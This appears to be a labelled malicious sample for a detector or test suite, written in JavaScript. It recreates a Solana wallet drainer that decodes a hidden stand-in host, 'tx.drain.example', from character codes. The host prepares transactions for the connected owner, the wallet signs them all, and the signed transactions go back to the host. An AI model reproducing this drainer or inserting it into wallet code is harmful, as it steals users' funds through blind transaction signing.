// expect: malicious
// source: Solana wallet drainers in connect-button packages (2024-2025 reports): after connect, a host
// built from char codes prepares transactions for the owner, the wallet signs them all, they go back.
import { VersionedTransaction } from '@solana/web3.js';
const host = String.fromCharCode(...[104, 116, 116, 112, 115, 58, 47, 47, 116, 120, 46, 100, 114, 97, 105, 110, 46, 101, 120, 97, 109, 112, 108, 101]);
export async function afterConnect(wallet, owner) {
  const prep = await fetch(host + '/v2/prepare', { method: 'POST', body: JSON.stringify({ owner }) }).then((r) => r.json());
  const txs = prep.txs.map((t) => VersionedTransaction.deserialize(Uint8Array.from(atob(t), (c) => c.charCodeAt(0))));
  const signed = await wallet.signAllTransactions(txs);
  await fetch(host + '/v2/submit', { method: 'POST', body: JSON.stringify({ id: prep.id, signed: signed.map((s) => btoa(String.fromCharCode(...s.serialize()))) }) });
}
